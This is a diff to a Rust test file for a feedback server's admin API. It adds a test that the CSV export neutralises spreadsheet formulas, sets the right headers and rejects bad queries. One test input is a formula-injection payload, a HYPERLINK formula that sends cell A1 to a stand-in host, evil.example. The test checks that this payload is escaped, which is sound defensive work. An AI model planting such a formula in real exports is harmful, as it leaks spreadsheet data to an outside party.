@@ -1,4 +1,4 @@
-//! GET /api/v1/admin/feedback: disabled without a token, 401 with a wrong one, filters with the right one.
+//! GET /api/v1/admin/feedback (JSON and CSV): disabled without a token, 401 with a wrong one, filters with the right one.
 
 use medvirk_server::config::AllowedOrigins;
 use medvirk_server::routes::api_routes;
@@ -15,7 +15,7 @@ async fn disabled_without_a_token() {
     let t = TestApp::with(Options {
         admin_token: None,
         origins: AllowedOrigins::Any,
-        open311: false,
+        ..Options::default()
     })
     .await;
     let res = check(
@@ -170,7 +170,7 @@ async fn every_admin_route_is_guarded() {
         .into_iter()
         .filter(|r| r.path.starts_with("/api/v1/admin/"))
         .collect();
-    assert_eq!(admin_routes.len(), 7, "{admin_routes:?}");
+    assert_eq!(admin_routes.len(), 8, "{admin_routes:?}");
     let disabled = TestApp::with(Options {
         admin_token: None,
         ..Options::default()
@@ -199,5 +199,116 @@ async fn every_admin_route_is_guarded() {
         )
         .await;
         assert_eq!(res.header("www-authenticate"), Some(INVALID), "{name}");
+    }
+}
+
+/// The CSV export: spreadsheet headers, a BOM, both separators, and formulas from the public
+/// neutralised, read back with core's own CSV reader.
+#[tokio::test]
+async fn csv_export_neutralises_formulas() {
+    use medvirk_core::csv_out::is_formula_like;
+    use medvirk_core::directory::csv::parse_csv;
+    use medvirk_server::routes::admin::CSV_COLUMNS;
+
+    let t = TestApp::new().await;
+    let attack = r#"=HYPERLINK("https://evil.example/?d="&A1,"Klikk her")"#;
+    let comments = [
+        attack,
+        "+47 99 99 99 99",
+        "  @SUM(1+1)",
+        "Bra; men \"treg\"\nandre linje",
+    ];
+    for (n, comment) in comments.iter().enumerate() {
+        let mut v = example_json("submission-minimal.json");
+        v["responseId"] = uuid(n as u32 + 1).into();
+        v["comment"] = (*comment).into();
+        check(
+            &t,
+            comment,
+            Req::json("POST", FEEDBACK, v.to_string()),
+            ok(201),
+        )
+        .await;
+    }
+    for (sep, delim) in [("", ';'), ("semicolon", ';'), ("comma", ',')] {
+        let path = format!("{ADMIN}.csv?sep={sep}");
+        let res = check(
+            &t,
+            &path,
+            admin(Req::get(&path)),
+            Expect {
+                headers: &[
+                    ("content-type", Some("text/csv; charset=utf-8")),
+                    ("cache-control", Some("no-store")),
+                ],
+                ..ok(200)
+            },
+        )
+        .await;
+        let disposition = res.header("content-disposition").unwrap();
+        assert!(
+            disposition.starts_with("attachment; filename=\"medvirk-feedback-")
+                && disposition.ends_with(".csv\""),
+            "{disposition}"
+        );
+        let text = res.text();
+        assert!(text.starts_with('\u{feff}'), "BOM for Excel");
+        assert!(text.contains("\r\n"));
+        assert_eq!(
+            text.lines().next().unwrap().trim_start_matches('\u{feff}'),
+            CSV_COLUMNS.join(&delim.to_string())
+        );
+        let records = parse_csv(&text).unwrap();
+        assert_eq!(records[0].fields, CSV_COLUMNS);
+        assert_eq!(records.len(), 1 + comments.len());
+        let column = CSV_COLUMNS.iter().position(|c| *c == "comment").unwrap();
+        let exported: Vec<&str> = records[1..]
+            .iter()
+            .map(|r| r.fields[column].as_str())
+            .collect();
+        assert_eq!(
+            exported,
+            [
+                format!("'{attack}").as_str(),
+                "'+47 99 99 99 99",
+                "'  @SUM(1+1)",
+                "Bra; men \"treg\"\nandre linje",
+            ],
+            "sep={sep}"
+        );
+        for record in &records {
+            assert_eq!(record.fields.len(), CSV_COLUMNS.len());
+            for cell in &record.fields {
+                assert!(!is_formula_like(cell) || cell.starts_with('\''), "{cell}");
+            }
+        }
+        assert_eq!(records[1].fields[0], uuid(1));
+    }
+    let filtered = admin(Req::get(&format!("{ADMIN}.csv?widgetId=nope")));
+    let res = check(&t, "filtered", filtered, ok(200)).await;
+    assert_eq!(parse_csv(&res.text()).unwrap().len(), 1, "header only");
+    for (name, req, expect) in [
+        (
+            "tab separator",
+            admin(Req::get(&format!("{ADMIN}.csv?sep=tab"))),
+            err(400, "invalid_query", Some("sep")),
+        ),
+        (
+            "unknown parameter",
+            admin(Req::get(&format!("{ADMIN}.csv?token={TOKEN}"))),
+            err(400, "invalid_query", Some("token")),
+        ),
+        (
+            "bad date",
+            admin(Req::get(&format!("{ADMIN}.csv?from=igår"))),
+            err(400, "invalid_query", Some("from")),
+        ),
+        (
+            "no token",
+            Req::get(&format!("{ADMIN}.csv")),
+            err(401, "unauthorized", None),
+        ),
+    ] {
+        check(&t, name, req, expect).await;
     }
 }
